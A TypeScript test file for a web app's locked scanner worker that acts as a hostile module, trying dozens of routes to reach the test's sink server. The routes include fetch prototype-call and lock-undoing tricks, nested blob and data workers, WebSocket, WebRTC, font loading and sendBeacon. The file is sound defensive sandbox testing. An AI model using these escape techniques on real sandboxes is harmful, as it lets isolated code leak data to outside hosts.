// TEST ONLY — never part of dist/. A hostile module's attempts to get out of the worker it runs in:
// every route the review used and every other one we know of, each aimed at the test's sink server
// (`${target}/hit/<route>`), which counts the requests that arrive. The same file runs inside the
// locked scanner worker (must reach nothing) and inside an unlocked canary worker (must reach the
// sink through every route the platform offers, which proves the routes are real).

type Scope = Record<string, unknown> & typeof globalThis;
type Ctor = new (...args: unknown[]) => Record<string, unknown>;

const scope = globalThis as Scope;
const g = (name: string): unknown => (scope as Record<string, unknown>)[name];
const ctor = (name: string): Ctor => g(name) as Ctor;

/** What happened to one attempt as seen from inside: the sink's count is the ground truth. */
export interface Attempt {
  readonly route: string;
  /** `sent`: no error was raised (the request may still be refused by the CSP); `absent`: the platform has no such API (then it threw too). */
  readonly outcome: 'sent' | 'threw' | 'absent';
  readonly detail: string;
}

/** Waits for `p` at most `ms`; a route that neither resolves nor throws counts as sent. */
function settle(p: unknown, ms = 2500): Promise<void> {
  if (!(p instanceof Promise)) return Promise.resolve();
  return Promise.race([p.then(() => undefined), new Promise<void>((r) => setTimeout(r, ms))]);
}

/** Source of a nested worker that tries fetch (module) or importScripts (classic). */
const nestedSource = (url: string, classic: boolean): string =>
  classic ? `try { importScripts(${JSON.stringify(url)}); } catch (e) {}` : `fetch(${JSON.stringify(url)}).catch(() => {});`;

/**
 * The routes. `prefix` distinguishes a nested worker's hits; `own` is this bundle's URL (the one
 * script the lock lets `Worker` start, as an em-pthread thread).
 */
type Route = [route: string, api: string, run: (url: string) => unknown];

function routes(target: string, ws: string, prefix: string, own: string): Route[] {
  // The review's trick: the platform's own function, from WorkerGlobalScope.prototype, called on the global.
  const wgs = (g('WorkerGlobalScope') as { prototype: Record<string, (...a: unknown[]) => unknown> }).prototype;
  return [
    ['fetch', 'fetch', (u) => fetch(u, { mode: 'no-cors' })],
    ['fetch-request', 'fetch', (u) => fetch(new Request(u, { mode: 'no-cors' }))],
    ['fetch-prototype-call', 'fetch', (u) => wgs.fetch!.call(scope, u, { mode: 'no-cors' })],
    [
      'fetch-every-prototype',
      'fetch',
      async (u) => {
        // Every fetch along the chain, from the global up, called on the global.
        for (let o: object | null = scope; o; o = Object.getPrototypeOf(o)) {
          const f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value as ((...a: unknown[]) => Promise<unknown>) | undefined;
          if (typeof f === 'function') await Reflect.apply(f, scope, [u, { mode: 'no-cors' }]);
        }
      },
    ],
    [
      'fetch-restore',
      'fetch',
      (u) => {
        // Undo the lock: delete the global's own fetch, make the prototype's configurable again, call it.
        Reflect.deleteProperty(scope, 'fetch');
        Object.defineProperty(wgs, 'fetch', { ...Object.getOwnPropertyDescriptor(wgs, 'fetch'), configurable: true });
        return wgs.fetch!.call(scope, u, { mode: 'no-cors' });
      },
    ],
    ['function-constructor', 'fetch', (u) => (new Function('return fetch')() as typeof fetch)(u, { mode: 'no-cors' })],
    [
      'xhr',
      'XMLHttpRequest',
      (u) => {
        const x = new (ctor('XMLHttpRequest'))();
        (x.open as (m: string, u: string) => void)('GET', u);
        (x.send as () => void)();
      },
    ],
    ['websocket', 'WebSocket', () => new (ctor('WebSocket'))(`${ws}/hit/${prefix}websocket`)],
    ['websocketstream', 'WebSocketStream', () => new (ctor('WebSocketStream'))(`${ws}/hit/${prefix}websocketstream`)],
    [
      'eventsource',
      'EventSource',
      (u) => {
        const es = new (ctor('EventSource'))(u);
        setTimeout(() => (es.close as () => void)(), 2000);
      },
    ],
    ['webtransport', 'WebTransport', (u) => new (ctor('WebTransport'))(u.replace(/^http:/, 'https:'))],
    ['importScripts', 'importScripts', (u) => (g('importScripts') as (u: string) => void)(u)],
    ['importScripts-prototype-call', 'importScripts', (u) => wgs.importScripts!.call(scope, u)],
    ['dynamic-import', 'import()', (u) => import(/* @vite-ignore */ `${u}.mjs`)],
    // import() of the app's own origin: allowed by script-src 'self', refused by a CSP naming the worker's exact URL.
    ['dynamic-import-same-origin', 'import()', () => import(/* @vite-ignore */ new URL(`/same-origin-import/${prefix}leak.mjs`, own).href)],
    [
      'caches-add',
      'caches',
      async (u) => {
        const cache = await (g('caches') as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> }).open('hostile');
        await cache.add(u);
      },
    ],
    [
      'caches-getter-call',
      'caches',
      async (u) => {
        const get = Object.getOwnPropertyDescriptor(wgs, 'caches')!.get!;
        const storage = get.call(scope) as { open: (n: string) => Promise<{ add: (u: string) => Promise<void> }> };
        await (await storage.open('hostile2')).add(u);
      },
    ],
    ['fontface-load', 'FontFace', (u) => (new (ctor('FontFace'))('hostile', `url(${u})`).load as () => Promise<unknown>)()],
    [
      'fonts-load',
      'fonts',
      async (u) => {
        const face = new (ctor('FontFace'))('hostile2', `url(${u})`);
        const fonts = g('fonts') as { add: (f: unknown) => void; load: (s: string) => Promise<unknown> };
        fonts.add(face);
        await fonts.load('12px hostile2');
      },
    ],
    [
      'worker-blob',
      'Worker',
      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' }),
    ],
    [
      'worker-blob-classic-importScripts',
      'Worker',
      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, true)], { type: 'text/javascript' }))),
    ],
    ['worker-data', 'Worker', (u) => new Worker(`data:text/javascript,${encodeURIComponent(nestedSource(u, false))}`, { type: 'module' })],
    [
      'worker-blob-named-em-pthread',
      'Worker',
      (u) => new Worker(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module', name: 'em-pthread' }),
    ],
    [
      'worker-prototype-constructor',
      'Worker',
      (u) => {
        const Real = (Worker.prototype as unknown as { constructor: new (url: string, o?: WorkerOptions) => Worker }).constructor;
        return new Real(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' })), { type: 'module' });
      },
    ],
    [
      'sharedworker',
      'SharedWorker',
      (u) => new (ctor('SharedWorker'))(URL.createObjectURL(new Blob([nestedSource(u, false)], { type: 'text/javascript' }))),
    ],
    [
      'broadcastchannel',
      'BroadcastChannel',
      () => {
        const ch = new (ctor('BroadcastChannel'))('safeseal-hostile');
        (ch.postMessage as (m: string) => void)(`leaked by ${prefix || 'worker'}`);
      },
    ],
    ['sendBeacon', 'navigator.sendBeacon', (u) => (navigator as unknown as Record<string, (u: string, d: string) => boolean>).sendBeacon!(u, 'leak')],
    [
      'rtcpeerconnection',
      'RTCPeerConnection',
      () => {
        const pc = new (ctor('RTCPeerConnection'))({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
        (pc.createDataChannel as (n: string) => void)('x');
        return (pc.createOffer as () => Promise<unknown>)().then((o) => (pc.setLocalDescription as (o: unknown) => Promise<void>)(o));
      },
    ],
    ['indexedDB', 'indexedDB', () => (g('indexedDB') as { open: (n: string) => unknown }).open('hostile')],
    [
      'navigator.storage',
      'navigator.storage',
      () => (navigator as unknown as { storage: { getDirectory: () => Promise<unknown> } }).storage.getDirectory(),
    ],
    [
      'navigator.locks',
      'navigator.locks',
      () =>
        (navigator as unknown as { locks: { request: (n: string, f: () => void) => Promise<unknown> } }).locks.request(
          'hostile-leak',
          () => undefined,
        ),
    ],
    [
      'navigator.serviceWorker',
      'navigator.serviceWorker',
      () => (navigator as unknown as { serviceWorker: { register: (u: string) => unknown } }).serviceWorker.register('/sw.js'),
    ],
    [
      'webkitRequestFileSystem',
      'webkitRequestFileSystem',
      () => (g('webkitRequestFileSystem') as (t: number, n: number, ok: () => void) => void)(0, 1024, () => undefined),
    ],
    ['notification', 'Notification', () => new (ctor('Notification'))('hostile', { icon: `${target}/hit/${prefix}notification` })],
    ...(prefix === '' ? ([['worker-own-url-em-pthread', 'Worker', () => spawnOwnThread(own, target, ws)]] as Route[]) : []),
  ];
}

/** Starts this bundle as an em-pthread thread (which the lock allows) and has it attack too. */
function spawnOwnThread(own: string, target: string, ws: string): Promise<Attempt[]> {
  const thread = new Worker(own, { type: 'module', name: 'em-pthread-hostile' });
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve([]), 20_000);
    thread.addEventListener('message', (ev: MessageEvent) => {
      const data = ev.data as { hostileReport?: Attempt[] };
      if (!data?.hostileReport) return;
      clearTimeout(timer);
      thread.terminate();
      resolve(data.hostileReport);
    });
    thread.postMessage({ hostile: true, target, ws, prefix: 'pthread-' });
  });
}

/**
 * Tries every route once. Absent APIs are told apart from refused ones by whether the name exists.
 * @param own this bundle's URL (import.meta.url of the caller)
 */
export async function attack(target: string, ws: string, prefix: string, own: string): Promise<Attempt[]> {
  const out: Attempt[] = [];
  for (const [route, api, run] of routes(target, ws, prefix, own)) {
    const exists = api === 'import()' || (api.startsWith('navigator.') ? api.slice(10) in navigator : api in scope);
    const url = `${target}/hit/${prefix}${route}`;
    try {
      const result = run(url);
      await settle(result);
      if (route === 'worker-own-url-em-pthread') {
        for (const a of (await result) as Attempt[]) out.push(a);
      }
      out.push({ route: prefix + route, outcome: 'sent', detail: '' });
    } catch (e) {
      const message = String((e as Error)?.message ?? e).slice(0, 160);
      out.push({ route: prefix + route, outcome: exists ? 'threw' : 'absent', detail: message });
    }
  }
  return out;
}

/**
 * Installs the hostile listener: on `{ hostile: true, target, ws, prefix }` from whoever started
 * this worker, attacks and posts `{ hostileReport }` back. comlink's guard drops these messages
 * (they carry no comlink id), so the scanner API is unaffected.
 */
export function installHostile(own: string): void {
  scope.addEventListener('message', (ev: MessageEvent) => {
    const d = ev.data as { hostile?: boolean; target?: string; ws?: string; prefix?: string };
    if (d?.hostile !== true || typeof d.target !== 'string' || typeof d.ws !== 'string') return;
    void attack(d.target, d.ws, d.prefix ?? '', own).then((report) => scope.postMessage({ hostileReport: report }));
  });
}
